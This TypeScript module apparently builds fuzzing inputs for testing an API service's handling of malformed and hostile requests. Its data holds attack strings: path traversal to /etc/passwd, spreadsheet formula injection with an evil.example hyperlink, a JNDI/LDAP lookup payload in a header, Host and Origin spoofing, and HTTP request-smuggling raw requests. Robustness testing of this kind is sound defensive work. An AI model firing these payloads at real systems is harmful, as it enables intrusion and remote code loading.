import fc from 'fast-check';
import { type OperationName, operations } from '../../functions/contract/operations.ts';
import { smallDocument } from '../../test/functions/documents.ts';

/** What is wrong, or odd, with a request. */
export const attacks = [
  'plain',
  'malformed JSON',
  'deep nesting',
  'wrong types',
  'huge numbers',
  'unicode',
  'headers',
  'paths',
  'formulas',
] as const;
export type Attack = (typeof attacks)[number];

export interface MadeUpRequest {
  readonly name: OperationName;
  readonly attack: Attack;
  readonly method: string;
  /** With its query, as it goes over the wire. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: Buffer;
}

const names = Object.keys(operations) as OperationName[];
/** Methods and operations that take a body. */
const writing = names.filter((name) => operations[name][0] !== 'GET' && !/delete|cancel/.test(name));

const oddTexts = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom('', '0', '-1', '1e9', 'null', 'queued', 'custom', '__proto__', 'a'.repeat(2000)),
);
const formulas = fc.constantFrom(
  '=1+1',
  '=HYPERLINK("http://evil.example","x")',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1',
);
const unicode = fc.constantFrom(
  '\u0000',
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  '👩‍👩‍👧‍👦',
  '\ufeff',
  'ﬀ',
  'İ',
  '\u2028\u2029',
  'a\u0301'.repeat(300),
);
const huge = fc.constantFrom(
  '1e308',
  '-1e308',
  '1e400',
  '123456789012345678901234567890',
  '5e-324',
  '-0',
  '9007199254740993',
);
const wrong = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }),
  fc.constantFrom<unknown>(null, true, [], {}, -1, 0.5, '', { length: 1e9 }, { toString: 1 }, [[[]]]),
);

/** A body that most operations would take, as a value whose parts can be replaced. */
const bodies: Readonly<Partial<Record<OperationName, object>>> = {
  createScenario: smallDocument(),
  replaceScenario: smallDocument(),
  cloneScenario: { library: 'biowin', name: 'a-copy', title: 'A copy' },
  importScenario: {
    name: 'mine',
    title: 'Mine',
    organisations: 'id,role\na,firm\nb,firm\n',
    ties: 'source,target,weight\na,b,0.5\n',
    map: { id: 'id' },
  },
  startRun: { scenario: { document: smallDocument() }, replications: 2, arms: ['cluster'] },
  // A plan tries runs for seconds: with a design that there is not, it is refused before.
  planSweep: sweepBody('none'),
  startSweep: sweepBody('sobol'),
};

function sweepBody(kind: string) {
  return {
    sweep: {
      name: 's',
      title: 'S',
      scenario: 'biowin',
      arms: ['isolated'],
      factors: [{ at: 'exportShare', min: 0.1, max: 0.2 }],
      design: { kind, points: 2 },
      set: { organisationCount: 12, burnInYears: 1, branchYears: 1 },
      replications: 1,
    },
    limit: 2,
  };
}

/** Replaces one part of a value, wherever it lies. */
function withPart(value: unknown, place: number, part: unknown): unknown {
  let left = place % Math.max(1, countOf(value));
  const visit = (inner: unknown): unknown => {
    left -= 1;
    if (left < 0 && left > -2) return part;
    if (Array.isArray(inner)) return inner.map(visit);
    if (typeof inner !== 'object' || inner === null) return inner;
    return Object.fromEntries(Object.entries(inner).map(([key, each]) => [key, visit(each)]));
  };
  return visit(value);
}

function countOf(value: unknown): number {
  if (typeof value !== 'object' || value === null) return 1;
  return 1 + Object.values(value).reduce((sum: number, each) => sum + countOf(each), 0);
}

const mark = '"__number__"';

/** The text of a body under an attack. */
function bodyUnder(attack: Attack, name: OperationName): fc.Arbitrary<Buffer> {
  const base = bodies[name] ?? {};
  const replaced = (part: fc.Arbitrary<unknown>) =>
    fc.tuple(fc.nat(60), part).map(([place, value]) => JSON.stringify(withPart(base, place, value)) ?? '');
  const text = (() => {
    switch (attack) {
      case 'malformed JSON':
        return fc.oneof(
          fc.nat(200).map((end) => JSON.stringify(base).slice(0, end)),
          fc.string({ maxLength: 20 }),
          fc.constantFrom(
            '{"name":"a","name":"b"}',
            '[1,]',
            '{}{}',
            "{'a':1}",
            'NaN',
            '\ufeff{}',
            '"',
            '{"a":01}',
          ),
        );
      case 'deep nesting':
        return fc.oneof(
          fc.integer({ min: 30, max: 20_000 }).map((depth) => '['.repeat(depth)),
          fc.integer({ min: 20, max: 3000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
          fc
            .tuple(fc.nat(60), fc.integer({ min: 5, max: 40 }))
            .map(([place, depth]) =>
              JSON.stringify(withPart(base, place, JSON.parse('['.repeat(depth) + ']'.repeat(depth)))),
            ),
        );
      case 'huge numbers':
        return fc
          .tuple(replaced(fc.constant('__number__')), huge)
          .map(([whole, number]) => whole.replaceAll(mark, number));
      case 'unicode':
        return replaced(fc.oneof(unicode, oddTexts));
      case 'formulas':
        return replaced(formulas);
      case 'plain':
        return fc.constant(JSON.stringify(base));
      default:
        return replaced(wrong);
    }
  })();
  const bytes = text.map((value) => Buffer.from(value));
  if (attack !== 'unicode') return bytes;
  // Now and then bytes that are no UTF-8.
  return fc.oneof(
    { weight: 5, arbitrary: bytes },
    { weight: 1, arbitrary: fc.constant(Buffer.from('{"a":"\xff\xfe"}', 'latin1')) },
  );
}

const usualIds = ['01m83e163de3v2bydpz7f3k6t4', '0'.repeat(26), 'biowin', 'runs.csv', 'comparison.json'];
const oddIds = [
  '..',
  '.',
  '%2e%2e',
  '%2e%2e%2fetc%2fpasswd',
  '..%2f..%2f..%2fsettings.json',
  '..%5c..%5cwindows',
  '%c0%ae%c0%ae',
  '%252e%252e%252f',
  '%00',
  'a%00.csv',
  '%ff',
  '%',
  '%zz',
  ';a=b',
  'x'.repeat(3000),
  '__proto__',
  'constructor',
  '%F0%9F%92%A9',
];

const oddHeaders = fc.record(
  {
    'If-Match': fc.constantFrom('"1"', '*', 'W/"1"', '', '"999999999999999"', '"-1"', '"1", "2"', '"1e1"'),
    'Idempotency-Key': fc.constantFrom('a', 'b', 'x'.repeat(300), '\u00e9', '../..', '', '__proto__'),
    'Content-Type': fc.constantFrom(
      'application/json',
      'application/json; charset=utf-16',
      'text/plain',
      'multipart/form-data; boundary=a',
      'application/jsonp',
      '',
      ',',
    ),
    'Content-Encoding': fc.constantFrom('gzip', 'br', 'identity', 'x'),
    Accept: fc.constantFrom('text/html', '*/*;q=0', 'x'.repeat(5000)),
    Origin: fc.constantFrom('https://evil.example', 'null', 'http://127.0.0.1', 'x'),
    Range: fc.constantFrom('bytes=0-0', 'bytes=-1', 'bytes=9999999999-'),
    Cookie: fc.constantFrom('a=b', `a=${'b'.repeat(4000)}`),
    Expect: fc.constantFrom('100-continue'),
    'X-HTTP-Method-Override': fc.constantFrom('DELETE', 'TRACE'),
    'X-Forwarded-Host': fc.constantFrom('evil.example'),
    'X-Original-URL': fc.constantFrom('/v1/health'),
    Authorization: fc.constantFrom('Bearer x', 'Basic ====', 'none'),
    'Accept-Language': fc.constantFrom('=1+1', '${jndi:ldap://evil.example/a}'),
  },
  { requiredKeys: [] },
);

const usualHeaders = fc.record(
  { 'If-Match': fc.constantFrom('"1"', '"2"'), 'Idempotency-Key': fc.constantFrom('a', 'b', 'c') },
  { requiredKeys: [] },
);

const query = fc.dictionary(
  fc.constantFrom('limit', 'cursor', 'status', 'structure', 'search', 'scenario', 'oops'),
  fc.oneof(oddTexts, formulas, unicode),
  { maxKeys: 3 },
);

/** A request to an operation of the contract with something wrong. */
export const madeUpRequest: fc.Arbitrary<MadeUpRequest> = fc
  .constantFrom(...attacks)
  .chain((attack) => {
    const isOfBody = !['plain', 'headers', 'paths'].includes(attack);
    return fc.record({ attack: fc.constant(attack), name: fc.constantFrom(...(isOfBody ? writing : names)) });
  })
  .chain(({ attack, name }) =>
    fc
      .record({
        ids: fc.array(fc.constantFrom(...(attack === 'paths' ? oddIds : usualIds)), {
          minLength: 2,
          maxLength: 2,
        }),
        query: attack === 'plain' ? fc.constant({}) : query,
        headers: attack === 'headers' ? oddHeaders : usualHeaders,
        body: bodyUnder(attack, name),
      })
      .map(({ ids, query: asked, headers, body }) => {
        const [method, path] = operations[name];
        let i = 0;
        const filled = path.replaceAll(/\{\w+\}/g, () => ids[i++]);
        const search = new URLSearchParams(asked).toString();
        const takesBody = writing.includes(name);
        return {
          name,
          attack,
          method,
          path: search === '' ? filled : `${filled}?${search}`,
          headers: { ...(takesBody && { 'Content-Type': 'application/json' }), ...headers },
          ...(takesBody && { body }),
        };
      }),
  );

/** Requests that no HTTP client would send, as bytes; `HOST` stands for the name of the service. */
export const rawRequests: readonly string[] = [
  'GET /v1/health HTTP/1.1\r\nHost: HOST\r\nX: a\r\n b\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nHost: HOST\r\nX: a\0b\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nHost : HOST\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nHost: HOST\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n',
  'GET /v1/health HTTP/1.1\r\nHost: [::1\r\nConnection: close\r\n\r\n',
  'GET http://evil.example/v1/health HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'GET //evil.example/v1/health HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'GET /v1/../../../etc/passwd HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'GET /v1/docs/..\\..\\x HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'GET /v1/health#x HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'GET /v1/health\r\n\r\n',
  'GET /v1/health HTTP/9.9\r\nHost: HOST\r\n\r\n',
  'get /v1/health HTTP/1.1\r\nHost: HOST\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'OPTIONS * HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'TRACE /v1/health HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/health HTTP/1.1\r\nHost: HOST\r\n\r\n',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nContent-Length: -1\r\n\r\n{}',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nContent-Length: 99999999999999999999\r\n\r\n{}',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: gzip, x\r\n\r\n',
  'POST /v1/scenarios HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}',
  `GET /v1/health HTTP/1.1\r\nHost: HOST\r\n${'X: y\r\n'.repeat(4000)}\r\n`,
  `GET /v1/${'a'.repeat(20_000)} HTTP/1.1\r\nHost: HOST\r\n\r\n`,
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
  '\r\n\r\n\r\nGET',
];
